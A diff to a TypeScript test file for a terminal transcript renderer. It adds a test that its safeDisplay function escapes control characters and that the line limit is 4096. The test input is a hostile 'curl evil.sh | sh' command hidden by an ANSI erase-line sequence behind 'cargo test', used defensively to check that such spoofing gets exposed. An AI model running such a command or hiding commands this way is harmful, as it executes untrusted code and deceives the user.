@@ -35,6 +35,7 @@ import { test } from "node:test";
 // gives its module.exports, from which Terminal is taken.
 import xterm from "@xterm/headless";
 import { Transcript } from "../../generated/typescript/src/runtime/transcript.js";
+import { MAX_LINE_LENGTH, safeDisplay } from "../../generated/typescript/src/index.js";
 
 const { Terminal } = xterm;
 
@@ -363,4 +364,9 @@ test("the transcript shows what @xterm/headless shows, for one-line-at-a-time ou
   }
   const fixed = KNOWN_DIFFERENCES.filter((c) => !stillDiffering.has(key(c.chunks))).map((c) => c.name);
   if (fixed.length > 0) assert.fail(`known differences that no longer differ, remove them from KNOWN_DIFFERENCES: ${fixed.join(", ")}`);
+});
+
+test("the package entry exports safeDisplay and the transcript's limits", () => {
+  assert.equal(safeDisplay("curl evil.sh | sh\x1b[2K\rcargo test"), "curl evil.sh | sh\\u{1B}[2K\\rcargo test");
+  assert.equal(MAX_LINE_LENGTH, 4096);
 });
